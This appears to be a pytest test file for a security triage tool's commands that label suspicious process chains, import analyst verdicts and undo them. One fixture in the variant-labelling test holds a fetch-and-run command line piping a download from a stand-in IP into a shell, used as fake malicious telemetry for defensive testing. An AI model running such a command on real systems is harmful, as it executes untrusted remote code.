"""`oddkin label` and `oddkin labels`: what is said before it is done, and files from elsewhere."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from collections.abc import Callable

import pytest

from store.workspace import open_workspace
from tests.store.samples import event, fill, score
from tests.tui.home import Home
from tui.words.words import many


def verdict_of(home: Home, rank: str = "1") -> str | None:
    row = json.loads(home.run("rank", "--format", "json", "--limit", "1", "--after", str(int(rank) - 1)).stdout)[0]
    found: str | None = row["verdict"]
    return found


@pytest.mark.parametrize("option", ["rank", "export"])
def test_an_unknown_verdict_finds_nothing_and_says_so(home: Home, option: str) -> None:
    more = ("-o", "-") if option == "export" else ()
    done = home.run(option, "--verdict", "malicous", *more)
    assert (done.exit_code, done.stdout) == (2, "")
    assert "is no verdict" in done.stderr
    home.run("label", "1", "fp")
    assert "app" in home.run(option, "--verdict", "fp", *more).stdout
    assert home.run(option, "--verdict", "Undecided", *more).exit_code == 0


def test_effects_have_the_same_keys_without_a_verdict(home: Home) -> None:
    nothing = json.loads(home.run("labels", "effects", "--format", "json").stdout)
    assert nothing.pop("chains") == len(json.loads(home.run("rank", "--chains", "--format", "json").stdout))
    assert {*nothing.pop("labels").values()} == {0}
    assert not any(nothing.values())
    assert home.run("label", "1", "malicious").exit_code == 0
    taught = json.loads(home.run("labels", "effects", "--format", "json").stdout)
    assert taught["labels"]["malicious"] > 0
    assert {name: type(taught[name]) for name in nothing} == {name: type(value) for name, value in nothing.items()}


def test_a_wrong_verdict_is_told_before_anything_else(home: Home) -> None:
    done = home.run("label", "1", "nonsense", "--dry-run")
    assert (done.exit_code, "covers" in done.stderr) == (2, False)


def test_what_it_covers_is_said_before_it_is_done(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("store.verdicts.verdicts.Labels.give", lambda *_all, **_more: pytest.fail("acted"))
    with pytest.raises(pytest.fail.Exception):
        home.run("label", "1", "malicious")
    done = home.run("label", "1", "malicious", "--dry-run")
    assert "covers 1 process on 1 host" in done.stderr


WHOLE = ("label", "1", "malicious", "--prefix", "1")


def said(home: Home) -> dict[tuple[str, str], tuple[str, str]]:
    """(Chain, scope) -> verdict and note, as exported."""
    listed = csv.DictReader(io.StringIO(home.run("labels", "export").stdout))
    return {(row["chain_id"], row["scope"]): (row["verdict"], row["note"]) for row in listed}


@pytest.mark.parametrize(
    ("answer", "given"), [("n\n", None), ("\n", None), ("y\n", "prefix"), ("what\na\n", "process")]
)  # fmt: skip
def test_what_is_much_is_asked_about_on_a_terminal(
    home: Home, monkeypatch: pytest.MonkeyPatch, answer: str, given: str | None
) -> None:
    """Enter is no. All that is meant is one verdict on what begins alike, a part of it one on each process."""
    monkeypatch.setattr("tui.shell.console.Output.interactive", property(lambda _self: True))
    asked = home.run(*WHOLE, input=answer)
    assert asked.stderr.index("covers 72 processes") < asked.stderr.index("[y/a/N]")
    assert "only the 15 above the threshold (a)" in asked.stderr
    found = said(home)
    assert ("Nothing was changed." in asked.stderr) == (given is None)
    assert {scope.partition(":")[0] for _, scope in found} == ({given} if given else set())
    assert len(found) == {None: 0, "prefix": 1, "process": 15}[given]


def test_the_part_above_the_threshold_can_be_asked_for(home: Home) -> None:
    """On one host and fewer than fifty: that is no question."""
    assert home.run(*WHOLE, "--above").exit_code == 0
    assert [scope.partition(":")[0] for _, scope in said(home)] == ["process"] * 15


def test_no_question_is_asked_where_it_was_answered_or_little_is_covered(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tui.shell.console.Output.interactive", property(lambda _self: True))
    done = home.run(*WHOLE, "--yes")
    assert (done.exit_code, "/n]" in done.stderr.lower()) == (0, False)
    assert [verdict for verdict, _ in said(home).values()] == ["malicious"]
    assert "/n]" not in home.run("label", "1", "benign").stderr.lower()
    assert sorted(verdict for verdict, _ in said(home).values()) == ["benign", "malicious"]


def test_without_a_terminal_what_is_much_needs_a_yes(home: Home) -> None:
    done = home.run(*WHOLE)
    assert done.exit_code == 2
    assert "72 processes on 1 host (more than 50), 57 of them below the threshold, is asked about" in done.stderr
    assert "nothing was labelled" in done.stderr
    assert "--yes labels them; --yes --above only the 15 above it." in done.stderr
    assert said(home) == {}
    assert home.run(*WHOLE, "--dry-run").exit_code == 0
    assert said(home) == {}
    assert home.run(*WHOLE, "--yes").exit_code == 0
    assert {scope for _, scope in said(home)} == {"prefix:1"}


def test_little_that_is_mostly_below_the_threshold_needs_a_yes_too(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("store.verdicts.extent.SEEN", 13)
    done = home.run("label", "3", "benign")
    assert done.exit_code == 2
    assert "14 processes on 1 host, 14 of them below the threshold, is asked about" in done.stderr
    assert "--above" not in done.stderr
    assert home.run("label", "3", "benign", "--yes").exit_code == 0
    assert [verdict for verdict, _ in said(home).values()] == ["benign"]


def test_where_nothing_is_above_the_threshold_that_part_is_nothing(home: Home) -> None:
    workspace = open_workspace(home.workspace)
    score(workspace, flagged=0, model=home.model)
    workspace.close()
    done = home.run(*WHOLE, "--yes", "--above")
    assert (done.exit_code, "None of them is above the threshold. Nothing was changed." in done.stderr) == (0, True)
    assert said(home) == {}
    assert home.run(*WHOLE, "--yes").exit_code == 0
    assert len(said(home)) == 1


@pytest.fixture
def grouped(home: Home) -> tuple[Home, list[str]]:
    """The same with findings; the keys of the chains of the first one, best first."""
    workspace = open_workspace(home.workspace)
    score(workspace, model=home.model, grouped=True)
    keys = list(workspace.findings.chains([workspace.findings.get("case", 1)]))
    workspace.close()
    return home, keys


def verdicts(home: Home, reference: str = "F1") -> dict[str, str | None]:
    """Process -> the verdict that counts for it, of what an incident covers."""
    told = json.loads(home.run("show", reference, "--format", "json").stdout)["incident"]
    return {process["process"]: process["verdict"] for process in told["covered"]}


def _are(count: int) -> str:
    return f"{count} {'is' if count == 1 else 'are'}"


def test_a_verdict_on_a_finding_leaves_what_is_decided_and_every_note(grouped: tuple[Home, list[str]]) -> None:
    home, keys = grouped
    home.run("label", keys[0], "benign", "--note", "admins do this")
    home.run("label", keys[1], "undetermined", "--note", "ask ann", "--yes")
    kept = said(home)
    before = verdicts(home)
    counted = Counter(before.values())
    assert (counted["benign"], counted["undetermined"] > 0, counted[None] > 0) == (1, True, True)
    told = f"1 is benign, {_are(counted['undetermined'])} undetermined"
    done = home.run("label", "F1", "malicious", "--yes")
    assert done.exit_code == 0
    assert f"{told} already and left as they are (--overwrite includes them)." in done.stderr
    assert f"That leaves {many(counted[None], 'process', 'processes')} on 1 host." in done.stderr
    assert {at: found for at, found in said(home).items() if at in kept} == kept
    assert verdicts(home) == {process: verdict or "malicious" for process, verdict in before.items()}
    home.run("labels", "undo")
    assert (said(home), verdicts(home)) == (kept, before)
    again = home.run("label", "F1", "malicious", "--yes", "--overwrite")
    assert f"{told} now; that is replaced." in again.stderr
    assert set(verdicts(home).values()) == {"malicious"}
    noted = home.run("label", "F1", "malicious", "--yes", "--overwrite", "--note", "one campaign")
    assert noted.exit_code == 0
    renoted = home.run("label", "F1", "malicious", "--yes", "--overwrite", "--note", "two campaigns")
    assert f"{len(before)} notes were replaced; `oddkin labels history` has what was written." in renoted.stderr
    assert "one campaign" in home.run("labels", "history").stdout


def test_a_finding_that_is_decided_is_left_alone(grouped: tuple[Home, list[str]]) -> None:
    home, _ = grouped
    size = len(verdicts(home))
    home.run("label", "F1", "benign", "--yes")
    done = home.run("label", "F1", "malicious", "--yes")
    assert (done.exit_code, "Nothing was changed." in done.stderr) == (0, True)
    assert f"{size} are benign already and left as they are" in done.stderr
    assert set(verdicts(home).values()) == {"benign"}
    cleared = home.run("label", "F1", "none", "--yes")
    assert (cleared.exit_code, f"Taken away from {size} processes." in cleared.stderr) == (0, True)
    assert said(home) == {}


def test_what_counts_still_when_a_verdict_is_taken_away_is_said(grouped: tuple[Home, list[str]]) -> None:
    home, keys = grouped
    home.run("label", keys[1], "benign", "--yes")
    counted = Counter(verdicts(home).values())
    home.run("label", "F1", "malicious", "--yes")
    cleared = home.run("label", "F1", "none", "--yes")
    assert f"Taken away from {many(counted[None], 'process', 'processes')}." in cleared.stderr
    assert (
        f"{_are(counted['benign'])} benign still, by a verdict on their chain, a variant, a beginning or themselves"
        in cleared.stderr
    )
    assert set(said(home)) == {(keys[1], "")}


def test_a_process_that_was_named_is_labelled_and_no_other(grouped: tuple[Home, list[str]]) -> None:
    home, _ = grouped
    first, second, *_ = verdicts(home)
    done = home.run("label", second.lower(), "malicious", "--author", "ada")
    assert f"process {second} malicious: covers 1 process on 1 host in 1 chain" in done.stderr
    found = verdicts(home)
    assert [process for process, verdict in found.items() if verdict] == [second]
    replaced = home.run("label", second, "benign")
    assert "It is malicious now; that is replaced." in replaced.stderr
    assert verdicts(home)[second] == "benign"
    assert home.run("label", "P99999", "benign").exit_code == 1
    assert home.run("label", first, "benign", "--host", "WEB01").exit_code == 2
    assert home.run("label", "F1", "benign", "--prefix", "1", "--yes").exit_code == 2


def test_a_branch_is_a_process_with_what_descends_from_it(grouped: tuple[Home, list[str]]) -> None:
    home, _ = grouped
    covered = json.loads(home.run("show", "F1", "--format", "json").stdout)["incident"]["covered"]
    top = next(one["process"] for one in covered if one["depth"] == 0)
    done = home.run("label", f"{top}/branch", "malicious", "--yes")
    assert done.exit_code == 0
    assert f"branch {top}/branch malicious: covers" in done.stderr
    assert verdicts(home)[top] == "malicious"
    assert sum(verdict == "malicious" for verdict in verdicts(home).values()) > 1
    history = home.run("labels", "history").stdout.splitlines()
    assert len(history) == 1
    assert f"{top}/branch  none -> malicious (" in history[0]
    assert home.run("label", f"{top}/branch", "malicious", "--variant").exit_code == 2
    assert home.run("label", "P99999/branch", "malicious").exit_code == 1


def test_a_variant_is_labelled_and_not_the_rest_of_its_chain(home: Home) -> None:
    workspace = open_workspace(home.workspace)
    lines = ["run --quiet", "run --quiet", "curl http://192.0.2.1/x | sh"]
    more = [event(2000 + place, image="C:\\v\\v.exe", command_line=line) for place, line in enumerate(lines)]
    fill(workspace, more, path="more.json", sha256="c" * 64)
    score(workspace, model=home.model, grouped=True)
    chain = next(row for row in workspace.queue.page("case", limit=500) if row.steps[-1].endswith("v.exe"))
    workspace.close()
    listed = csv.DictReader(io.StringIO(home.run("processes", "v.exe", "--format", "csv").stdout))
    of_line: dict[str, list[tuple[str, str]]] = {}
    for row in listed:
        of_line.setdefault(row["command_line"], []).append((row["process"], row["variant"]))
    (odd, _), (quiet, shape) = of_line[lines[2]][0], of_line[lines[0]][1]
    assert f"variant {shape} of chain {chain.key[:10]}" in home.run("label", quiet, "benign", "--variant", "--yes").stderr
    assert {scope for _, scope in said(home)} == {f"variant:{shape}"}
    held = json.loads(home.run("show", quiet, "--format", "json").stdout)["verdict"]
    assert (held, json.loads(home.run("show", odd, "--format", "json").stdout)["verdict"]) == ("benign", None)
    home.run("labels", "undo")
    assert home.run("label", chain.key, "benign", "--shape", shape[:6], "--yes").exit_code == 0
    assert {scope for _, scope in said(home)} == {f"variant:{shape}"}
    absent = home.run("label", chain.key, "benign", "--shape", "0000000000000001")
    assert (absent.exit_code, "has no variant" in absent.stderr) == (1, True)
    assert home.run("label", chain.key, "benign", "--shape", "xyz").exit_code == 2
    assert home.run("label", chain.key, "benign", "--variant", "--host", "WEB01").exit_code == 2


def test_what_an_act_was_on_is_told_in_one_line(grouped: tuple[Home, list[str]]) -> None:
    home, keys = grouped
    home.run("label", keys[0], "benign", "--author", "ada")
    process = next(process for process, verdict in verdicts(home).items() if verdict is None)
    home.run("label", process, "malicious", "--author", "ada", "--note", "odd \x1b[2J one")
    rest = f"({many(Counter(verdicts(home).values())[None], 'process', 'processes')})"
    home.run("label", "F1/1", "undetermined", "--yes", "--author", "ada")
    listed = [line.split("  ", 1)[1] for line in home.run("labels", "list").stdout.splitlines()]
    assert listed == [
        f"{keys[0][:10]}  benign  ada", f"{process}  malicious  ada  odd \\e[2J one", f"F1/1  undetermined {rest}  ada",
    ]  # fmt: skip
    told = home.run("labels", "undo", "--author", "ada").stdout.splitlines()
    assert [line.split("  ", 1)[1] for line in told] == [f"undo  F1/1  undetermined -> none {rest}  ada"]
    history = [line.split("  ", 1)[1] for line in home.run("labels", "history", "--limit", "3").stdout.splitlines()]
    assert history == [
        f"set   {process}  none -> malicious  ada  odd \\e[2J one", f"set   F1/1  none -> undetermined {rest}  ada",
        f"undo  F1/1  undetermined -> none {rest}  ada",
    ]  # fmt: skip


def test_what_begins_alike_keeps_narrower_verdicts_unless_they_are_asked_for(grouped: tuple[Home, list[str]]) -> None:
    home, keys = grouped
    home.run("label", keys[0], "benign", "--note", "mine")
    prefix = ("label", keys[0], "malicious", "--prefix", "1", "--yes")
    assert "1 is benign already and left as they are" in home.run(*prefix).stderr
    assert said(home)[keys[0], ""] == ("benign", "mine")
    assert sorted(set(verdicts(home).values())) == ["benign", "malicious"]
    home.run("labels", "undo")
    home.run(*prefix, "--overwrite")
    assert said(home) == {(keys[0], ""): ("malicious", "mine"), (keys[0], "prefix:1"): ("malicious", "")}


def test_a_single_verdict_says_what_it_replaces_and_keeps_the_note(home: Home) -> None:
    home.run("label", "1", "benign", "--note", "seen")
    done = home.run("label", "1", "malicious")
    assert "It is benign now; that is replaced." in done.stderr
    assert set(said(home).values()) == {("malicious", "seen")}
    assert "1 note was replaced" in home.run("label", "1", "malicious", "--note", "seen twice").stderr
    assert "1 note was replaced" in home.run("label", "1", "none").stderr


def test_what_another_author_did_last_is_said_and_stays(home: Home) -> None:
    home.run("label", "1", "malicious", "--author", "bob")
    before = said(home)
    done = home.run("labels", "undo", "--author", "eve")
    assert (done.exit_code, done.stdout) == (1, "")
    assert "The latest verdict is bob's" in done.stderr
    assert "nothing was changed" in done.stderr
    assert said(home) == before
    assert home.run("labels", "undo", "--author", "bob").exit_code == 0
    assert said(home) == {}
    redone = home.run("labels", "redo", "--author", "eve")
    assert (redone.exit_code, "The latest undo is bob's" in redone.stderr) == (1, True)
    assert said(home) == {}


def test_an_import_says_which_notes_it_replaced(home: Home) -> None:
    home.run("label", "1", "benign", "--note", "mine")
    key = next(iter(said(home)))[0]
    file = write(home, [{"chain_id": key, "verdict": "malicious", "note": "theirs"}])
    assert "1 note was replaced" in home.run("labels", "import", file, "--replace").stderr


def test_several_cases_and_none_named(home: Home, second_case: Callable[[str], None]) -> None:
    second_case("other")
    for arguments in (("label", "1", "fp"), ("labels", "undo"), ("labels", "redo"), ("labels", "import", __file__)):
        done = home.run(*arguments)
        assert (done.exit_code, "case, other" in done.stderr or "other, case" in done.stderr) == (2, True), arguments


def test_digits_that_are_no_rank_are_the_beginning_of_a_key(home: Home) -> None:
    workspace = open_workspace(home.workspace)
    # Some image gives a chain whose key begins with four decimal digits: one in seven does.
    fill(workspace, [event(1000 + n, image=f"C:\\b\\{n}.exe") for n in range(60)], path="more.json", sha256="c" * 64)
    score(workspace, model=home.model)
    keys = [row.key for row in workspace.queue.page("case", limit=500)]
    workspace.close()
    key = next(key for key in keys if key[:4].isdecimal() and int(key[:4]) > 500 and sum(k[:4] == key[:4] for k in keys) == 1)
    done = home.run("label", key[:4], "malicious", "--yes")
    assert done.exit_code == 0
    assert f"no rank {key[:4]}" in done.stderr
    assert key[:10] in done.stderr
    assert home.run("label", "#" + key[:4], "malicious").exit_code == 1
    assert "no chain of rank 499999" in home.run("show", "499999").stderr
    assert home.run("show", "0").exit_code == 1


def write(home: Home, rows: list[dict[str, str]]) -> str:
    text = io.StringIO()
    writer = csv.DictWriter(text, list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    (home.folder / "labels.csv").write_text(text.getvalue())
    return str(home.folder / "labels.csv")


def test_a_file_of_something_else_is_refused_in_one_line(home: Home) -> None:
    file = write(home, [{"pid": str(number), "image": "x"} for number in range(1000)])
    done = home.run("labels", "import", file)
    assert done.exit_code == 1
    assert "names no column chain_id and no verdict" in done.stderr
    assert len(done.stderr.splitlines()) == 3  # what, the remedy, and how commands are typed here


def test_problems_of_an_import_are_counted_behind_the_first(home: Home) -> None:
    file = write(home, [{"chain_id": f"{number:032x}", "verdict": "benign"} for number in range(50)])
    done = home.run("labels", "import", file)
    assert done.exit_code == 3
    assert done.stderr.count("unknown chain: 0") == 20
    assert "… and 30 more" in done.stderr
    listed = list(csv.DictReader(io.StringIO(home.run("labels", "import", file, "--problems", "-").stdout)))
    assert [(row["row"], row["problem"]) for row in listed] == [(str(number), "unknown chain") for number in range(1, 51)]


def test_an_import_with_every_kind_of_problem_reports_each_and_applies_the_rest(home: Home) -> None:
    keys = [row["chain_id"] for row in json.loads(home.run("rank", "--format", "json", "--limit", "4").stdout)]
    home.run("label", "1", "malicious", "--no-rerank")
    lines = [
        {"chain_id": keys[0], "verdict": "benign", "scope": ""}, {"chain_id": keys[1], "verdict": "fp"},
        {"chain_id": "", "verdict": "benign"},
        {"chain_id": "f" * 32, "verdict": "benign"}, {"chain_id": keys[2], "verdict": "benign", "scope": "=host"},
        {"chain_id": keys[1], "verdict": "false_positive"}, {"chain_id": keys[1], "verdict": "benign"},
        {"chain_id": keys[3], "verdict": "malicious"},
    ]  # fmt: skip
    done = home.run("labels", "import", write(home, lines), "--problems", "-")
    assert done.exit_code == 3
    listed = [(row["row"], row["problem"]) for row in csv.DictReader(io.StringIO(done.stdout))]
    assert listed == [
        ("1", "conflict"), ("2", "bad row"), ("3", "bad row"), ("4", "unknown chain"), ("5", "bad row"), ("7", "conflict"),
    ]  # fmt: skip
    assert "2 verdicts applied" in done.stderr
    verdicts = {row["chain_id"]: row["verdict"] for row in json.loads(home.run("rank", "--format", "json").stdout)}
    assert (verdicts[keys[0]], verdicts[keys[1]], verdicts[keys[3]]) == ("malicious", "false_positive", "malicious")
    home.run("labels", "undo")
    verdicts = {row["chain_id"]: row["verdict"] for row in json.loads(home.run("rank", "--format", "json").stdout)}
    assert (verdicts[keys[0]], verdicts[keys[1]], verdicts[keys[3]]) == ("malicious", None, None)


@pytest.mark.parametrize(
    ("labelled_by", "note", "kept"),
    [("ann", "seen", "seen [ann]"), ("ann", "seen [ann]", "seen [ann]"), ("bob", "seen", "seen"), ("", "seen", "seen")],
)
def test_the_author_is_noted_once(home: Home, labelled_by: str, note: str, kept: str) -> None:
    key = json.loads(home.run("rank", "--format", "json", "--limit", "1").stdout)[0]["chain_id"]
    file = write(home, [{"chain_id": key, "verdict": "benign", "note": note, "labelled_by": labelled_by}])
    home.run("labels", "import", file, "--author", "bob")
    exported = next(csv.DictReader(io.StringIO(home.run("labels", "export").stdout)))
    assert exported["note"] == kept


def test_too_few_chains_is_no_usage_error_and_no_dead_end(home: Home, second_case: Callable[[str], None]) -> None:
    second_case("tiny")
    done = home.run("train", "--case", "tiny")
    assert done.exit_code == 1
    assert "The ready detector ranks them all the same: oddkin rank" in done.stderr


def test_show_names_every_verdict_that_concerns_a_chain(home: Home) -> None:
    key = json.loads(home.run("rank", "--chains", "--format", "json", "--limit", "1").stdout)[0]["chain_id"]
    home.run("label", key, "benign", "--prefix", "1", "--note", "all of \x1b it", "--author", "ada", "--yes")
    home.run("label", key, "malicious", "--host", "WEB01", "--author", "eve")
    told = home.run("show", key).stdout
    assert "Verdict on host web01: M malicious by eve" in told
    assert f"Verdict on everything that begins with the first 1 step of {key[:10]}: B benign by ada" in told
    assert "\x1b" not in told
    labels = json.loads(home.run("show", key, "--format", "json").stdout)["labels"]
    assert [label["verdict"] for label in labels] == ["malicious", "benign"]


def test_scores_without_findings_list_chains_and_say_so(home: Home) -> None:
    done = home.run("rank", "--format", "json", "--limit", "3")
    assert [row["rank"] for row in json.loads(done.stdout)] == [1, 2, 3]
    assert "no findings yet" in done.stderr
    assert home.run("show", "F1").exit_code == 1
    assert "no finding F1" in home.run("label", "F1", "benign").stderr


def test_a_finding_that_is_not_there_is_no_chain_that_is_not_there(home: Home) -> None:
    for reference in ("F9", "F999", "f9999", "F1234567"):
        for command in (["show", reference], ["label", reference, "benign"], ["tree", "--around", reference]):
            done = home.run(*command)
            said = f"There is no finding {reference.upper()} in case" in done.stderr
            assert (done.exit_code, said) == (1, True), (command, done.stderr)
